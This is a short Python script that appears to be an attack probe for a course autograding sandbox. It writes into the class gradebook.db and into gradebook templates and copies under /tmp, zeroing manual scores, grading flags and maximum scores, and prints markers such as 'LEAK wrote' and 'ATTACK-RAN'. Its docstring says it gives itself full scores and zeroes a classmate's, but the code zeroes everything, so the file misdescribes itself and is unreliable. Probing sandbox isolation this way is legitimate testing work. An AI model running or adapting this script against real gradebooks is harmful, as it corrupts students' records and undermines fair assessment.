"""Give itself full manual scores and zero a classmate's, in the class's gradebook and in any scratch
gradebook under /tmp (the template every student's private gradebook is copied from)."""
import glob
import pathlib
import sqlite3

root = pathlib.Path.cwd().parents[2]
for db in [root / "gradebook.db", *glob.glob("/tmp/course-autograde-*/template.db"),
           *glob.glob("/tmp/course-autograde-*/*/gradebook.db")]:
    try:
        connection = sqlite3.connect(f"file:{db}?mode=rw", uri=True)  # never creates a new file
        connection.execute("UPDATE grade SET manual_score = 0, needs_manual_grade = 0")
        connection.execute("UPDATE grade_cells SET max_score = 0")
        connection.commit()
        print("LEAK wrote", db)
    except sqlite3.Error as error:
        print("DENIED", db, error)
print("ATTACK-RAN write_gradebook")
